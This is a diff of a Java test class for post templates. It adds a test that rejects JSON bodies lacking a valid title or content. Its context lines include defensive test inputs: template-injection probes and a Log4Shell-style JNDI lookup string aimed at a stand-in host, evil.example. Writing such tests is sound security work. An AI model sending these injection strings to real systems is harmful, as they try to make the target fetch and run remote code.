@@ -58,6 +58,15 @@ class PostTemplateTests {
 		}
 	}
 
+	@ParameterizedTest
+	@ValueSource(strings = { "{}", "{\"title\": \"x\"}", "{\"title\": \" \", \"content\": \"x\"}",
+			"{\"title\": \"x\", \"content\": 3}" })
+	void plainPostRequiresTitleAndContent(String body) {
+		assertThatExceptionOfType(RefusalException.class)
+			.isThrownBy(() -> template("plain").read(JsonMapper.shared().readTree(body), ""))
+			.satisfies((refusal) -> assertThat(refusal.code()).isEqualTo("request.invalid"));
+	}
+
 	/** Values of programs run nothing, mention nobody, form no markup, and end. */
 	@ParameterizedTest
 	@ValueSource(strings = { "${7*7} {{7*7}} #{7*7} <%= 7*7 %>", "${jndi:ldap://evil.example/a}",
